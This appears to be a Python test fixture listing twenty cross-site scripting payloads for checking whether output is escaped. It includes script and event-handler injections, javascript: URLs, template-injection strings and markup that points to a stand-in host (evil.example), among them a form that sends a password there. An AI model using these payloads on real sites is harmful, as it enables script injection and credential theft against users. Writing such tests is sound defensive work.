"""Twenty texts that are scripts to whoever does not escape them. Each element that one of them makes has data-xss, and
each script calls alert(), which the tests' windows tell of."""

PAYLOADS = [
    "<script data-xss>alert(1)</script>",
    "<img data-xss src=x onerror=alert(2)>",
    "\"><svg data-xss onload=alert(3)>",
    "'><img data-xss src=x onerror='alert(4)'>",
    "<iframe data-xss srcdoc=\"<script>parent.alert(5)</script>\"></iframe>",
    "<a data-xss href=\"javascript:alert(6)\">click</a>",
    "javascript:alert(7)//",
    "</title><script data-xss>alert(8)</script>",
    "</textarea><img data-xss src=x onerror=alert(9)>",
    "<style data-xss>@import 'https://evil.example/x.css';</style>",
    "<base data-xss href='https://evil.example/'>",
    "<form data-xss action='https://evil.example/'><input name=password></form>",
    "<math data-xss><mtext></form><form><mglyph><style></math><img src=x onerror=alert(13)>",
    "{{constructor.constructor('alert(14)')()}}",
    "${alert(15)}`${alert(15)}`",
    "<details data-xss open ontoggle=alert(16)>x</details>",
    "<link data-xss rel=stylesheet href='https://evil.example/x.css'>",
    "&lt;img data-xss src=x onerror=alert(18)&gt;",
    "<object data-xss data='data:text/html,<script>alert(19)</script>'></object>",
    "=HYPERLINK(\"https://evil.example/\",\"x\")\u202e<b data-xss onmouseover=alert(20)>",
]
